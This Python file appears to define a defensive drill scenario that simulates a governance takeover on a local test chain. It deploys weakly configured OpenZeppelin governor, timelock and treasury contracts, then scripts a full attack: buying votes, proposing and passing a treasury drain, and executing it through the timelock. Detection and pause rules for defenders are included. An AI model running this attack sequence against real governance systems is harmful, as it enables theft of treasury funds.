"""``governance-takeover``: an attacker buys votes and passes a proposal that empties the
treasury.

OpenZeppelin 4.9.6 governance compiled with solcjs (:file:`MiniGovernor.sol`: an
``ERC20Votes`` token, a ``Governor`` with a 1-block delay and 3-block voting period, and a
real ``TimelockController``), and :file:`DrillTreasury.sol`, owned by the timelock and holding
1,000,000 dUSD (an OpenZeppelin ``ERC20PresetMinterPauser``). Turnout is low: nobody else
votes. ``governance-proposal`` on the governor pauses the treasury, so the execution reverts.
"""

from __future__ import annotations

from typing import Any

from eth_abi.abi import encode
from eth_utils.crypto import keccak

from breakglass.contracts import compile_file
from breakglass.devchain import Anvil
from breakglass.drills.library import AttackStep, Deployment, DrillScenario
from breakglass.drills.scenarios.common import (
    OZ,
    UNIT,
    SetupChain,
    artifact,
    attacker_send,
    balance_of,
    bytecode,
    calldata,
    pausable,
    pause_playbook,
    paused,
)

__all__ = ["GovernanceTakeover"]

TREASURY = 1_000_000 * UNIT
BOUGHT_VOTES = 300 * UNIT
DESCRIPTION = "Treasury rebalancing"
_PROPOSAL = "(address[],uint256[],bytes[],bytes32)"


class GovernanceTakeover(DrillScenario):
    """Votes bought, a malicious proposal passed and executed through the timelock."""

    name = "governance-takeover"
    title = "Governance takeover through bought votes"
    summary = (
        "The attacker buys 300 VOTE (30% of supply, more than everyone who votes), proposes "
        "'Treasury rebalancing', which releases the treasury's 1,000,000 dUSD to itself, "
        "votes it through, queues it in the timelock and executes it."
    )
    goals = (
        "governance-proposal raises an alert in the block of the proposal",
        "the guardian pauses the treasury before the proposal can execute",
        "the treasury keeps its funds",
    )
    tabletop = {
        "discovery": ("A proposal 'Treasury rebalancing' was created by an unknown account.",),
        "gathering": ("Voting ends in 3 blocks; the timelock delay is one second.",),
        "analysis": ("The proposal's only call is treasury.release(dUSD, proposer, all).",),
        "action": ("Who can cancel the timelock operation or pause the treasury?",),
        "reflection": ("Is a 1-block delay and 1-VOTE quorum acceptable?",),
    }

    def deploy(self, anvil: Anvil) -> Deployment:
        chain = SetupChain(anvil)
        admin, guardian, attacker = (a.lower() for a in anvil.accounts[:3])
        market = anvil.accounts[5].lower()
        built = compile_file("MiniGovernor.sol", node_imports=True)
        votes = chain.deploy(admin, built["VotesToken"].bytecode)
        timelock = chain.deploy(
            admin,
            built["TimelockController"].bytecode,
            encode(
                ["uint256", "address[]", "address[]", "address"], [1, [], ["0x" + "00" * 20], admin]
            ),
        )
        governor = chain.deploy(
            admin, built["MiniGovernor"].bytecode, encode(["address", "address"], [votes, timelock])
        )
        for role in ("PROPOSER_ROLE", "CANCELLER_ROLE"):
            grant = calldata("grantRole(bytes32,address)", keccak(text=role), governor)
            chain.send(admin, grant, timelock)
        treasury_code = compile_file("DrillTreasury.sol", node_imports=True)["DrillTreasury"]
        treasury = chain.deploy(
            admin, treasury_code.bytecode, encode(["address", "address"], [timelock, guardian])
        )
        usd = chain.deploy(
            admin,
            bytecode(artifact(OZ.format("ERC20PresetMinterPauser"))),
            encode(["string", "string"], ["Drill USD", "dUSD"]),
        )
        chain.send(admin, calldata("mint(address,uint256)", treasury, TREASURY), usd)
        chain.send(admin, calldata("transfer(address,uint256)", market, BOUGHT_VOTES), votes)
        return Deployment(
            addresses={
                "votes": votes,
                "timelock": timelock,
                "governor": governor,
                "treasury": treasury,
                "usd": usd,
            },
            guardian=guardian,
            guardian_key=anvil.private_keys[1],
            attacker=attacker,
            extra={"market": market},
        )

    def plan_fragment(self, anvil: Anvil, deployment: Deployment) -> dict[str, Any]:
        a = deployment.addresses
        return {
            "contracts": {
                "treasury": pausable(a["treasury"]),
                "governor": {"chain": "local", "address": a["governor"]},
            },
            "rules": [
                {
                    "id": "proposal",
                    "rule": "governance-proposal",
                    "contracts": ["governor"],
                    "severity": "critical",
                }
            ],
            "playbooks": [pause_playbook("treasury", ["proposal"])],
        }

    def attack(self, anvil: Anvil, deployment: Deployment) -> list[AttackStep]:
        a, attacker, market = deployment.addresses, deployment.attacker, deployment.extra["market"]
        release = calldata("release(address,address,uint256)", a["usd"], attacker, TREASURY)
        targets, values, calls = [a["treasury"]], [0], [bytes.fromhex(release[2:])]
        description_hash = keccak(text=DESCRIPTION)

        def send(to: str, data: str, sender: str = attacker) -> str:
            return attacker_send(anvil, sender, to, data, gas=1_000_000)

        def buy(_chain: Anvil) -> list[str]:
            sell = calldata("transfer(address,uint256)", attacker, BOUGHT_VOTES)
            return [
                send(a["votes"], sell, market),
                send(a["votes"], calldata("delegate(address)", attacker)),
            ]

        def propose(_chain: Anvil) -> list[str]:
            data = calldata(
                "propose(address[],uint256[],bytes[],string)", targets, values, calls, DESCRIPTION
            )
            return [send(a["governor"], data)]

        def proposal_id() -> int:
            data = calldata("hashProposal" + _PROPOSAL, targets, values, calls, description_hash)
            return int(anvil.rpc("eth_call", [{"to": a["governor"], "data": data}]), 16)

        def wait(blocks: int) -> Any:
            def mine(chain: Anvil) -> list[str]:
                for _ in range(blocks):
                    chain.rpc("evm_mine", [])
                return []

            return mine

        def vote(_chain: Anvil) -> list[str]:
            return [send(a["governor"], calldata("castVote(uint256,uint8)", proposal_id(), 1))]

        def queue(_chain: Anvil) -> list[str]:
            return [
                send(
                    a["governor"],
                    calldata("queue" + _PROPOSAL, targets, values, calls, description_hash),
                )
            ]

        def execute(chain: Anvil) -> list[str]:
            chain.rpc("evm_increaseTime", [2])
            data = calldata("execute" + _PROPOSAL, targets, values, calls, description_hash)
            return [send(a["governor"], data)]

        return [
            AttackStep("buy 300 VOTE and delegate them to itself", buy),
            AttackStep("propose 'Treasury rebalancing' (release all dUSD)", propose, exploit=True),
            AttackStep("wait for the voting delay", wait(1)),
            AttackStep("vote for the proposal", vote),
            AttackStep("wait for the voting period to end", wait(3)),
            AttackStep("queue the proposal in the timelock", queue),
            AttackStep("execute the proposal", execute),
        ]

    def value_at_risk(self, anvil: Anvil, deployment: Deployment) -> int | None:
        a = deployment.addresses
        return balance_of(anvil, a["usd"], a["treasury"])

    def contained(self, anvil: Anvil, deployment: Deployment) -> bool:
        return paused(anvil, deployment.addresses["treasury"])
